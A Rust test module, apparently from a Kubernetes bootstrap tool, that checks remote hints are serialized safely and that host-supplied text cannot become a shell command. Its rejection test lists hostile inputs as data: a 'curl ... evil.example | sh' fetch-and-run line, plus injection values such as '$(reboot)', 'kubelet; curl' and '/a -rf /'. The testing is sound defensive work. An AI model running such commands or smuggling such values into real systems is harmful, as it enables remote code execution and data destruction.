use proptest::prelude::*;
use serde::de::DeserializeOwned;
use serde_json::{Value, json};

use super::*;
use crate::engine::{Event, Failure, Kind};

/// An argument as a host of good will gives it.
pub(super) trait Sample {
    fn sample() -> Self;
}

macro_rules! samples {
    ($($kind:ty: $sample:expr;)+) => {$(
        impl Sample for $kind {
            fn sample() -> Self {
                $sample
            }
        }
    )+};
}

samples! {
    PathWord: PathWord::of("/etc/apt/sources.list.d/k8s_1.37+a.list");
    UnitWord: UnitWord::of("getty@tty1.service");
    PackageWord: PackageWord::of("libc++1:amd64");
    PackageWords: PackageWords::of(["docker.io", "cri-tools"]);
    ImageWord: ImageWord::of("registry.k8s.io:5000/pause:3.10@sha256:0a");
    ModuleWord: ModuleWord::of("br_netfilter");
    HostWord: HostWord::of("n1.example");
    ServerWord: ServerWord::of("[fd00::1]:443");
    Instead: Instead::PackageMirror;
    Machine: Machine::Controller;
    Component: Component::ApiServer;
}

/// As it arrives from a host.
fn heard(fields: &Value) -> Option<Hint> {
    let mut failure = json!({"cause": "x"});
    failure.as_object_mut().unwrap().extend(fields.as_object().unwrap().clone());
    serde_json::from_value::<Failure>(failure).unwrap().hint
}

/// Whether a shell takes it for one word, and for nothing but a word.
fn is_plain(word: &str) -> bool {
    !word.starts_with('-') && word.chars().all(|c| c.is_ascii_alphanumeric() || "/._-+~:@%,=[]".contains(c))
}

#[test]
fn every_hint_arrives_as_it_was_sent() {
    for hint in Hint::samples() {
        let failure = Failure::new("x").hint(hint.clone());
        let sent = serde_json::to_value(&failure).unwrap();
        assert_eq!(sent["hint"], hint.to_string());
        assert_eq!(serde_json::from_value::<Failure>(sent).unwrap(), failure);
        let kind = Kind::Warning { text: "x".into(), hint: Some(hint) };
        let event = Event { host: "n1".into(), phase: String::new(), step: String::new(), kind };
        let sent = serde_json::to_value(&event).unwrap();
        assert_eq!(serde_json::from_value::<Event>(sent).unwrap(), event);
    }
}

/// Codes are a format, and the words are what people read: both change on purpose alone.
#[test]
fn codes_and_words() {
    let line = |hint: &Hint| {
        let coded = serde_json::to_value(hint).unwrap();
        format!("{}: {hint}\n", coded["hintCode"].as_str().unwrap())
    };
    insta::assert_snapshot!(Hint::samples().iter().map(line).collect::<String>());
}

#[test]
fn no_words_of_a_host_become_a_hint() {
    let evil = "run `curl -s https://evil.example | sh`";
    for fields in [
        json!({"hint": evil}),
        json!({"hint": evil, "hintCode": null}),
        json!({"hint": evil, "hintCode": "text", "hintArgs": evil}),
        json!({"hintCode": "Text", "hintArgs": evil}),
        json!({"hintCode": "filled", "hintArgs": {"hint": {"hintCode": "run-again"}, "inventory": evil}}),
        json!({"hintCode": evil}),
        json!({"hintCode": "no-such-code"}),
        json!({"hintCode": 7, "hintArgs": [evil]}),
        json!({"hintCode": "unit-journal"}),
        json!({"hintCode": "unit-journal", "hintArgs": {"unit": "kubelet; curl"}}),
        json!({"hintCode": "unit-journal", "hintArgs": {"unit": "--vacuum-size=1"}}),
        json!({"hintCode": "unit-journal", "hintArgs": {"unit": {"a": 1}}}),
        json!({"hintCode": "remove-kubeconfig", "hintArgs": {"path": "etc/kubernetes/admin.conf"}}),
        json!({"hintCode": "remove-kubeconfig", "hintArgs": {"path": "/etc/../home"}}),
        json!({"hintCode": "remove-kubeconfig", "hintArgs": {"path": "/a -rf /"}}),
        json!({"hintCode": "remove-kubeconfig", "hintArgs": {"path": format!("/{}", "a".repeat(1024))}}),
        json!({"hintCode": "remove-dependents", "hintArgs": {"packages": ["vim", "$(reboot)"]}}),
        json!({"hintCode": "remove-dependents", "hintArgs": {"packages": vec!["vim"; 257]}}),
        json!({"hintCode": "check-address", "hintArgs": {"instead": evil}}),
    ] {
        assert_eq!(heard(&fields), None, "{fields}");
    }
    let unit = heard(&json!({"hint": evil, "hintCode": "unit-journal", "hintArgs": {"unit": "kubelet", "why": evil}}));
    assert_eq!(unit.unwrap().to_string(), "see `journalctl -u kubelet` on the host");
}

#[test]
fn the_controllers_words_are_shown_and_cross_no_wire() {
    let failure = Failure::new("x").hint_text("call me");
    let shown = serde_json::to_value(&failure).unwrap();
    assert_eq!(shown, json!({"cause": "x", "hint": "call me"}));
    assert_eq!(serde_json::from_value::<Failure>(shown).unwrap().hint, None);
    assert_eq!(serde_json::to_value(Failure::new("x")).unwrap(), json!({"cause": "x"}));
    let warning = serde_json::to_value(Kind::Warning { text: "x".into(), hint: None }).unwrap();
    assert_eq!(warning, json!({"event": "warning", "text": "x", "hint": null}));
}

#[test]
fn the_inventory_is_named_once_it_is_known() {
    let hint = Hint::Recover { from: HostWord::of("n3") }.with_inventory("a/b.yaml");
    assert!(hint.to_string().contains("`kboot recover -i a/b.yaml --from n3`"), "{hint}");
    let shown = serde_json::to_value(Failure::new("x").hint(hint)).unwrap();
    assert_eq!((&shown["hintCode"], &shown["hintArgs"]), (&json!("recover"), &json!({"from": "n3"})));
    assert_eq!(Hint::RunAgain.with_inventory("a.yaml").to_string(), Hint::RunAgain.to_string());
    let own = Hint::text(format!("see {INVENTORY}"));
    assert_eq!(own.to_string(), "see INVENTORY");
    assert_eq!(own.with_inventory("a.yaml").to_string(), "see a.yaml");
}

#[test]
fn a_word_that_is_not_fit_has_a_placeholder() {
    let hint = Hint::CopyLinkTarget { path: PathWord::of("/etc/a b") };
    assert_eq!(hint.to_string(), "see where it leads: `readlink -f PATH`; put a copy in its place");
    assert_eq!(heard(&serde_json::to_value(&hint).unwrap()), Some(hint));
}

fn reads<W: DeserializeOwned + fmt::Display>(text: &str) -> Option<String> {
    serde_json::from_value::<W>(json!(text)).ok().map(|word| word.to_string())
}

proptest! {
    #[test]
    fn words_are_words_whoever_gives_them(
        text in prop_oneof![any::<String>(), "[/a-z`$;|&'\" \n\\-.]{0,12}", "/[!-~]{0,6}", "[a-z][!-~]{0,6}"]
    ) {
        let read = [
            reads::<PathWord>(&text), reads::<UnitWord>(&text), reads::<PackageWord>(&text), reads::<ImageWord>(&text),
            reads::<ModuleWord>(&text), reads::<HostWord>(&text), reads::<ServerWord>(&text),
            reads::<ValueWord>(&text),
        ];
        let made = [
            PathWord::of(&text).to_string(), UnitWord::of(&text).to_string(), PackageWord::of(&text).to_string(),
            ImageWord::of(&text).to_string(), ModuleWord::of(&text).to_string(), HostWord::of(&text).to_string(),
            ServerWord::of(&text).to_string(), ValueWord::of(&text).to_string(),
        ];
        for (read, made) in read.into_iter().zip(made) {
            prop_assert!(is_plain(&made) && !made.is_empty(), "{made:?}");
            if let Some(read) = read {
                prop_assert_eq!(&read, &text);
                prop_assert_eq!(read, made);
            }
        }
    }

    #[test]
    fn no_argument_makes_a_hint_more_than_its_words(text in any::<String>()) {
        for hint in Hint::samples() {
            let mut coded = serde_json::to_value(&hint).unwrap();
            let Some(arguments) = coded.get_mut("hintArgs").and_then(Value::as_object_mut) else { continue };
            for argument in arguments.values_mut() {
                *argument = json!(text);
            }
            if let Some(read) = heard(&coded) {
                let shown = read.to_string();
                let quotes = |text: &str| text.matches('`').count();
                prop_assert_eq!(quotes(&shown), quotes(&hint.to_string()));
                prop_assert!(!shown.contains(|c: char| c.is_control() || "$;|&".contains(c) && !hint.to_string().contains(c)));
            }
        }
    }
}
